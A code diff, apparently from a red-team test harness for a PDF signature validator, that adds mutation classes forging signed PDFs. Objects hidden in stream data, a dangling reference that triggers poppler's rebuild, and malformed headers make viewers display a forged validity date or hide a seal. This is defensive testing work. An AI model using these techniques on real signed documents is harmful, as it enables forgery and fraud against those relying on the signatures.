@@ -96,6 +96,40 @@ function forgedPatch(g: Genuine, w: number, h: number, size = 11): Uint8Array {
   );
 }
 
+/** A listed, unreferenced stream whose raw data is a whole `… obj … endobj`: only a reader that scans sees it. */
+function hiddenInStream(num: number, header: string | Uint8Array): WrittenObject {
+  return { num, body: streamBody("", concat("\n", header, "\nendobj\n"), false) };
+}
+
+/**
+ * A listed stream whose data holds a whole forged document tree (catalog, page tree, page, content) and an xref-stream
+ * dictionary naming that catalog as /Root: no `trailer` keyword, and every number new, so only a check of xref-stream
+ * dictionaries (which MuPDF's and pdf.js's rebuilds read /Root from) can see it.
+ */
+function hiddenCatalog(g: Genuine): WrittenObject {
+  const holder = nextNum(g);
+  const [catalog, pages, page, content, xref] = [1, 2, 3, 4, 5].map((k) => nextNum(g, k)) as [
+    number,
+    number,
+    number,
+    number,
+    number,
+  ];
+  const obj = (n: number, body: string | Uint8Array) => concat(`${n} 0 obj\n`, body, "\nendobj\n");
+  const data = concat(
+    "\n",
+    obj(catalog, setKey(head(g, g.catalog), "Pages", ref(pages))),
+    obj(pages, `<</Type /Pages /Kids [${ref(page)}] /Count 1>>`),
+    obj(page, pageWith(g, { Parent: ref(pages), Contents: ref(content) })),
+    obj(content, forgedContent(g)),
+    obj(
+      xref,
+      `<</Type /XRef /Size ${xref + 1} /Root ${ref(catalog)} /W [1 1 1] /Index [0 0] /Length 0>>\nstream\n\nendstream`,
+    ),
+  );
+  return { num: holder, body: streamBody("", data, false) };
+}
+
 /** A box over the printed validity date, in user space. */
 const dateBox = (g: Genuine) => ({ x: g.datePosition.x - 130, y: g.datePosition.y - 4, w: 300, h: 18 });
 const rect = (b: { x: number; y: number; w: number; h: number }) =>
@@ -197,6 +231,8 @@ async function docTimestampUpdate(
     flags?: number;
     /** More widget entries, written as is. */
     widget?: string;
+    /** No appearance at all (an invisible timestamp as a B-LTA step writes it), instead of the forged patch. */
+    noAppearance?: boolean;
   },
 ): Promise<Uint8Array> {
   const [field, sig, ap, free] = [nextNum(g), nextNum(g, 1), nextNum(g, 2), nextNum(g, 3)];
@@ -207,10 +243,10 @@ async function docTimestampUpdate(
       num: sig,
       body: timestampSigDict("/Type /DocTimeStamp"),
     },
-    { num: ap, body: forgedPatch(g, b.w, b.h) },
+    ...(o.noAppearance ? [] : [{ num: ap, body: forgedPatch(g, b.w, b.h) }]),
     {
       num: field,
-      body: `<</Type /Annot /Subtype /Widget /FT /Sig /T (DocTimeStamp1) /V ${ref(sig)} /Rect ${o.rect(free)} /F ${o.flags ?? 4} /P ${ref(g.page)} /AP <</N ${ref(ap)}>>${o.widget ?? ""}>>`,
+      body: `<</Type /Annot /Subtype /Widget /FT /Sig /T (DocTimeStamp1) /V ${ref(sig)} /Rect ${o.rect(free)} /F ${o.flags ?? 4} /P ${ref(g.page)}${o.noAppearance ? "" : ` /AP <</N ${ref(ap)}>>`}${o.widget ?? ""}>>`,
     },
     ...(o.extra ? o.extra(free) : []),
     {
@@ -1141,6 +1177,72 @@ export const CLASSES: MutationClass[] = [
     name: "benign-unreferenced-object",
     gain: "nothing visible: an update with one unreferenced object (control for what viewers ignore)",
     make: (g) => appendUpdate(g.bytes, [filler(g)]),
+  },
+
+  // A rebuild the validator accepted (red team 2): an invisible document timestamp whose widget refers to an object
+  // no cross-reference data lists. poppler meets it while loading the form ("xref num … not found but needed, try to
+  // reconstruct") and draws every appearance from then on from a scan of the file — so a header hidden in a listed
+  // stream's data takes over even though nothing else is out of place.
+  {
+    name: "rebuild-trigger-dangling-reference",
+    gain: "poppler rebuilds the cross-reference data by scanning from the form on (the trigger the next two rely on)",
+    make: (g, ctx) =>
+      docTimestampUpdate(g, ctx, { rect: () => "[0 0 0 0]", noAppearance: true, widget: " /TU 999999 0 R" }),
+  },
+  {
+    name: "rebuild-trigger-hides-by-generation",
+    gain: "the note (annotated copy) or the seal (plain) vanishes: poppler's rebuild keeps the highest generation, `N 1 obj` hidden in a stream",
+    visible: BOTH,
+    make: (g, ctx) =>
+      docTimestampUpdate(g, ctx, {
+        rect: () => "[0 0 0 0]",
+        noAppearance: true,
+        widget: " /TU 999999 0 R",
+        extra: (free) => [
+          hiddenInStream(free, `${g.kind === "annotated" ? g.noteAppearance : g.sealAppearance} 1 obj\n<<>>`),
+        ],
+      }),
+  },
+  {
+    name: "rebuild-trigger-leading-zero-header",
+    gain: "the seal drawn as a forged date patch: `00000000000S 0 obj` (a header a ten-digit scan missed) hidden in a stream",
+    visible: BOTH,
+    make: (g, ctx) =>
+      docTimestampUpdate(g, ctx, {
+        rect: () => "[0 0 0 0]",
+        noAppearance: true,
+        widget: " /TU 999999 0 R",
+        extra: (free) => [
+          hiddenInStream(free, concat(`00000000000${g.sealAppearance} 0 obj\n`, forgedPatch(g, 300, 18))),
+        ],
+      }),
+  },
+  {
+    name: "hidden-header-long-generation",
+    gain: "the page content redefined as `C 000000 obj` in a stream's data, waiting for any rebuild (a five-digit scan missed it)",
+    make: (g) =>
+      appendUpdate(g.bytes, [
+        hiddenInStream(nextNum(g), concat(`${g.content} 000000 obj\n`, forgedContent(g))),
+      ]),
+  },
+
+  {
+    name: "hidden-header-vertical-tab",
+    gain: "the seal (plain) or note (annotated) hidden from poppler's rebuild by `N\\v1\\vobj`: its scan takes vertical tab as a space",
+    make: (g) =>
+      appendUpdate(g.bytes, [
+        hiddenInStream(
+          nextNum(g),
+          `${g.kind === "annotated" ? g.noteAppearance : g.sealAppearance}\v1\vobj\n<<>>`,
+        ),
+      ]),
+  },
+  {
+    name: "hidden-xref-stream-root",
+    // A probe that held (red team 2): with a glued section as trigger, MuPDF's rebuild still took the trailer's /Root
+    // (it skips the holder's stream data) and poppler prefers trailers; kept to catch a viewer that starts using it.
+    gain: "a catalog of forged pages named by an xref-stream dictionary hidden in a stream, for rebuilds that take /Root from one",
+    make: (g) => appendUpdate(g.bytes, [hiddenCatalog(g)]),
   },
 
   // Byte ranges, signature wrapping, truncation.
